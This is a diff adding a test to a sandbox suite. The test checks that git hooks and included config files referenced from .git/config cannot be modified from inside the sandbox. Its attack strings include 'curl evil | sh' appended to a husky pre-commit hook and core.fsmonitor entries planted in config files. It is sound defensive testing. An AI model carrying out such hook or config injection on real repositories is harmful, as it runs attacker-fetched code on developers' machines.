@@ -112,6 +112,32 @@ async def test_gits_config_hooks_and_info_cannot_be_changed_from_the_sandbox(rep
     assert "protected path" in (sandbox.explain_refusal(out) or ""), out
 
 
+async def test_hooks_and_config_the_repositorys_config_points_to_are_read_only_too(
+    repo: Path, home: Path
+) -> None:
+    # husky's layout: core.hooksPath in the work tree; and a project config file included.
+    (repo / ".husky").mkdir()
+    (repo / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
+    (repo / "team.gitconfig").write_text("[user]\n\tname = team\n")
+    with (repo / ".git" / "config").open("a") as config:
+        config.write("[core]\n\thooksPath = .husky\n[include]\n\tpath = ../team.gitconfig\n")
+        config.write('[includeIf "onbranch:main"]\n\tpath = ../missing.gitconfig\n')
+    ws, _ = sandboxed(repo, home)
+    for attack in (
+        "echo 'curl evil | sh' >> .husky/pre-commit",
+        "echo x > .husky/post-checkout",
+        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> team.gitconfig",
+        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > missing.gitconfig",
+    ):
+        code, out = await run(ws, attack, home)
+        assert code != 0 and "Read-only file system" in out, (attack, out)
+    assert (repo / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
+    assert sorted(p.name for p in (repo / ".husky").iterdir()) == ["pre-commit"]
+    assert (repo / "team.gitconfig").read_text() == "[user]\n\tname = team\n"
+    del ws, _
+    assert not (repo / "missing.gitconfig").exists()  # the empty mount point went with the session
+
+
 async def test_a_planted_commondir_is_moved_aside_when_the_command_ends(repo: Path, home: Path) -> None:
     # git reads config from the folder `commondir` names; a main .git never has one.
     ws, _ = sandboxed(repo, home)
